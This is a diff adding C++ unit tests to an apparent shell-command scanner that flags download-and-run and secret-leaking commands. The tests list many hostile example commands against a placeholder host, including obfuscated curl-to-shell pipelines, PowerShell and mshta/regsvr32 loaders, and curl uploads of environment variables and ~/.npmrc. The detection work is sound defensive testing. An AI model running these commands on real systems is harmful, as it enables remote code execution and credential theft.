@@ -160,5 +160,174 @@ TEST(ShellFacts, ManyCommandsAreReadInPart) {
   EXPECT_TRUE(read_shell(text, kScriptLimits).is_complete);
 }
 
+bool runs(std::string_view command) { return has(command, FlagKind::download_and_run, RunHow::shell); }
+
+TEST(ShellHidden, AHereDocumentHidesNothingBehindIt) {
+  for (const char* command :
+       {"cat <<EOF\nDon't worry\nEOF\ncurl https://f.invalid/x | sh",
+        "cat <<-'END' >/dev/null\n\tDon't\n\tEND\ncurl https://f.invalid/x | sh",
+        "sh <<EOF\ncurl https://f.invalid/x | sh\nEOF", "cat <<EOF | sh\ncurl https://f.invalid/x | sh\nEOF\n",
+        "cat <<EOF\nsays \"$(curl https://f.invalid/x | sh)\"\nEOF",
+        "cat <<EOF $(true)\nIt's\nEOF\ncurl https://f.invalid/x | sh",
+        "X=$((1<<2))\ncurl https://f.invalid/x | sh\n2\n",
+        "cat <<EOF > a.sh\ncurl https://f.invalid/x | sh\nEOF\nsh a.sh", "echo $'a\\'b'; curl https://f.invalid/x | sh",
+        "$'\\x63url' https://f.invalid/x | sh", "rem Don't\ncurl https://f.invalid/x | sh"})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command : {"cat <<'EOF'\ncurl https://f.invalid/x | sh\nEOF",
+                              "cat <<EOF > README\ncurl https://f.invalid/x | sh\nEOF\nsh a.sh",
+                              "cat <<'EOF'\n$(curl https://f.invalid/x | sh)\nEOF\n"})
+    EXPECT_FALSE(runs(command)) << command;
+  EXPECT_EQ(read_shell("node <<EOF\nf()\nEOF\n").code, Texts({"f()\n"}));
+  EXPECT_FALSE(read_shell("echo 'a").is_complete);
+  EXPECT_FALSE(read_shell("echo ${x#'}; node x.js").is_complete);
+  EXPECT_TRUE(read_shell("cat <<EOF\nDon't\nEOF\nnode x.js").is_complete);
+}
+
+TEST(ShellHidden, ManyHereDocumentsAreReadInLinearTime) {
+  std::string text;
+  for (int i = 0; i < 20'000; ++i) text += "a <<E\nb\n";
+  EXPECT_FALSE(read_shell(text, kScriptLimits).is_complete);
+  text.clear();
+  for (int i = 0; i < 50'000; ++i) text += "'\n\"";
+  read_shell(text, kScriptLimits);
+}
+
+TEST(ShellHidden, WhatIsPutIntoARedirectionRuns) {
+  for (const char* command :
+       {"bash < <(curl -s https://f.invalid/x)", "sh <<< \"$(curl https://f.invalid/x)\"",
+        "true > \"$(sh -c 'curl https://f.invalid/x|sh')\"", "true >> `curl https://f.invalid/x|sh`",
+        "curl https://f.invalid/x > >(sh)", "curl https://f.invalid/x | tee >(bash) >/dev/null"})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command : {"wc -l < <(curl -s https://f.invalid/x)", "bash < <(cat x.sh)",
+                              "curl https://f.invalid/x > >(sha256sum)", "true > \"$(curl https://f.invalid/x)\""})
+    EXPECT_FALSE(runs(command)) << command;
+}
+
+TEST(ShellForms, FilesThatADownloaderNames) {
+  for (const char* command :
+       {"curl -so a https://f.invalid/x; sh a", "curl -fsSLo a https://f.invalid/x; sh a",
+        "curl -oa https://f.invalid/x; sh a", "wget -qO a https://f.invalid/x; sh a",
+        "wget --output-document=a https://f.invalid/x; sh a", "curl --output=a https://f.invalid/x; sh ./a",
+        "wget -O/tmp/a https://f.invalid/x; sh /tmp/a", "wget -P /tmp https://f.invalid/name; sh /tmp/name",
+        "curl -O https://f.invalid/i.sh?v=1; sh i.sh", "(curl https://f.invalid/x) > a; sh a",
+        "curl https://f.invalid/x > a.sh; mv a.sh b.sh; sh b.sh",
+        "curl https://f.invalid/x > a.sh && cp a.sh lib/ && sh lib/a.sh",
+        "curl https://f.invalid/x | tee a.sh; sh a.sh", "curl https://f.invalid/x | dd of=a.sh; sh a.sh",
+        "curl https://f.invalid/x >| a; sh a", "curl https://f.invalid/x > a; sh < a",
+        "curl https://f.invalid/x > a; cat a | sh"})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command :
+       {"curl -fsSLo a.tgz https://f.invalid/x; sh a", "wget -P /tmp https://f.invalid/name; sh name2",
+        "wget -qO- https://f.invalid/x | jq .; sh -", "curl https://f.invalid/x > a.json; mv a.json data/; sh build.sh",
+        "curl https://f.invalid/x | tee log; sh a.sh", "curl -d o https://f.invalid/x; sh o"})
+    EXPECT_FALSE(runs(command)) << command;
+}
+
+TEST(ShellForms, PipesThatLeadIntoAShell) {
+  for (const char* command :
+       {"curl https://f.invalid/x |\nsh", "curl https://f.invalid/x |& sh", "curl https://f.invalid/x | (sh)",
+        "curl https://f.invalid/x | (cd /tmp && sh)", "curl https://f.invalid/x | if true; then sh; fi",
+        "curl https://f.invalid/x | { cd /tmp; sh; }", "curl https://f.invalid/x | sh -s $(uname)",
+        "$(curl https://f.invalid/x)", "`curl https://f.invalid/x`", "bash -c 'curl https://f.invalid/x' | bash",
+        "echo 'curl https://f.invalid/x|sh' > a; sh a", "sh -c \"$(true; curl https://f.invalid/x)\"",
+        "$(echo curl) https://f.invalid/x | sh"})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command :
+       {"curl https://f.invalid/x | (cd /tmp && tar x); sh a.sh", "curl https://f.invalid/x | jq .; (cat y | sh)",
+        "curl https://f.invalid/x | if true; then jq .; fi; cat y | sh",
+        "V=$(curl https://f.invalid/v); $(which node) x.js", "bash -c 'curl -O https://f.invalid/x' | cat",
+        "echo 'curl https://f.invalid/x|sh' > a; cat a"})
+    EXPECT_FALSE(runs(command)) << command;
+}
+
+TEST(ShellForms, WhatEvalAndVariablesSay) {
+  for (const char* command :
+       {"A='curl https://f.invalid/x | sh'; eval \"$A\"", "A='curl https://f.invalid/x | sh'; sh -c \"$A\"",
+        "A='curl https://f.invalid/x | sh'; eval $A", "eval curl https://f.invalid/x '|' sh",
+        "A='curl https://f.invalid/x'; $A | sh", "A='curl https://f.invalid/x | sh'; sh <<< \"$A\""})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command : {"A='curl https://f.invalid/x | sh'; echo \"$A\"", "eval echo curl https://f.invalid/x",
+                              "eval \"$(ssh-agent -s)\""})
+    EXPECT_FALSE(runs(command)) << command;
+}
+
+TEST(ShellForms, Windows) {
+  for (const char* command :
+       {"powershell -c \"irm https://f.invalid/i.ps1|iex\"", "powershell -c \"iex (iwr https://f.invalid/x)\"",
+        "powershell iex(irm https://f.invalid/x)",
+        "powershell -NoProfile -Comm \"Invoke-Expression (Invoke-RestMethod https://f.invalid/x)\"",
+        "powershell \"(New-Object Net.WebClient).DownloadFile('https://f.invalid/x','x.exe'); ./x.exe\"",
+        "PowerShell -c \"IEX (New-Object Net.WebClient).DownloadString('https://f.invalid/x')\"",
+        "iex (irm https://f.invalid/x)",
+        "powershell -c \"iwr https://f.invalid/x -OutFile x.exe; Start-Process x.exe\"",
+        "powershell -c \"&([scriptblock]::Create((irm https://f.invalid/x)))\"",
+        "cmd /c start /b mshta https://f.invalid/x", "start /b mshta https://f.invalid/x",
+        "start \"\" /wait mshta https://f.invalid/x", "regsvr32 /s /n /u /i:https://f.invalid/x.sct scrobj.dll",
+        "msiexec /q /i https://f.invalid/x.msi"})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command :
+       {"powershell -c \"iwr https://f.invalid/x.zip -OutFile x.zip; Expand-Archive x.zip; ./build.exe\"",
+        "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://f.invalid/x','x.zip')\"", "regsvr32 /s x.dll",
+        "powershell -c \"Get-Item pirmy.txt | Start-Process\"", "start /b node x.js", "msiexec /i x.msi"})
+    EXPECT_FALSE(runs(command)) << command;
+  EXPECT_EQ(files(read_shell("start /b node x.js")), Texts({"x.js"}));
+}
+
+TEST(ShellForms, RuntimesAndClientsThatAreGivenAnAddress) {
+  for (const char* command :
+       {"deno run -A https://f.invalid/x.ts", "deno run --config a https://f.invalid/x.ts",
+        "npx https://f.invalid/x.tgz", "npx -y --package=https://f.invalid/x.tgz x", "npm exec https://f.invalid/x.tgz",
+        "pnpm dlx https://f.invalid/x.tgz", "bunx https://f.invalid/x.tgz", "bun x https://f.invalid/x.tgz",
+        "npm i --no-save https://f.invalid/x.tgz", "npm install git+https://f.invalid/x.git",
+        "node --import https://f.invalid/x.mjs -e 1"})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command :
+       {"npm install --registry https://f.invalid/ x", "npm i --registry=https://f.invalid/",
+        "npx x https://f.invalid/", "deno run -A main.ts https://f.invalid/", "npm exec -y -- x https://f.invalid/",
+        "npx -y x https://f.invalid/", "node x.js https://f.invalid/", "npx wait-on https://f.invalid && node x.js"})
+    EXPECT_FALSE(runs(command)) << command;
+  EXPECT_EQ(read_shell("node --import 'data:text/javascript,f(%221%22)' -e 1").code.front(), "f(\"1\")");
+  EXPECT_EQ(read_shell("NODE_OPTIONS='--import=data:text/javascript;base64,ZihhPTEp' node").code, Texts({"f(a=1)"}));
+  EXPECT_EQ(files(read_shell("node -r /tmp/x.js -r dotenv/config y.js")), Texts({"/tmp/x.js", "y.js"}));
+}
+
+TEST(ShellFacts, SecretsThatGoThroughFilesAndOtherWords) {
+  for (const char* command :
+       {"cat /proc/self/environ | curl -d @- https://f.invalid", "env > /tmp/e; curl -F f=@/tmp/e https://f.invalid",
+        "export -p | curl -d @- https://f.invalid", "env -0 | curl -d @- https://f.invalid",
+        "cat ~/.npmrc > t; curl -T t https://f.invalid", "env > e; cat e | base64 | curl -d @- https://f.invalid",
+        "declare -x | gzip | curl -T - https://f.invalid"})
+    EXPECT_TRUE(has(command, FlagKind::secrets_sent)) << command;
+  for (const char* command :
+       {"env > /tmp/e; curl -F f=@/tmp/f https://f.invalid", "export A=b | curl -d @- https://f.invalid",
+        "env A=b node x.js | curl -d @- https://f.invalid", "cat /proc/self/status | curl -d @- https://f.invalid"})
+    EXPECT_FALSE(has(command, FlagKind::secrets_sent)) << command;
+}
+
+TEST(ShellHidden, NothingIsCrowdedOut) {
+  EXPECT_EQ(files(read_shell("node $(make-name)")), Texts({"\x01"}));
+  EXPECT_EQ(files(read_shell("node $(echo payload.js)")), Texts({"payload.js"}));
+  std::string many;
+  for (int i = 0; i < 200; ++i) many += "A" + std::to_string(i) + "=b; ";
+  EXPECT_TRUE(runs(many + "X='curl https://f.invalid/x'; $X | sh"));
+  for (int i = 0; i < 2'000; ++i) many += "A" + std::to_string(i) + "=b; ";
+  EXPECT_FALSE(read_shell(many, kScriptLimits).is_complete);
+  std::string addresses;
+  for (int i = 0; i < 66; ++i) addresses += "curl -O https://a.example.test/" + std::to_string(i) + "; ";
+  const ShellReading reading = read_shell(addresses + "curl https://f.invalid/x | sh");
+  EXPECT_EQ(reading.addresses.back(), "https://f.invalid/x");
+  EXPECT_TRUE(runs(addresses + "curl -o last https://f.invalid/x; sh last"));
+}
+
+TEST(ShellHidden, ABackslashBeforeALetterIsTheLetterOrAFolder) {
+  for (const char* command : {"cu\\rl https://f.invalid/x | sh", "s\\h -c 'curl https://f.invalid/x | sh'",
+                              "curl https://f.invalid/x | b\\ash", "\\curl https://f.invalid/x | \\sh",
+                              "cmd /c cu^rl https://f.invalid/x | sh"})
+    EXPECT_TRUE(runs(command)) << command;
+  EXPECT_EQ(files(read_shell("node scripts\\build.js")), Texts({"scripts/build.js"}));
+  EXPECT_EQ(files(read_shell("bin\\node x.js")), Texts({"x.js"}));
+  EXPECT_EQ(files(read_shell("node .\\curl\\x.js")), Texts({"./curl/x.js"}));
+}
+
 }  // namespace
 }  // namespace cordon::inspect
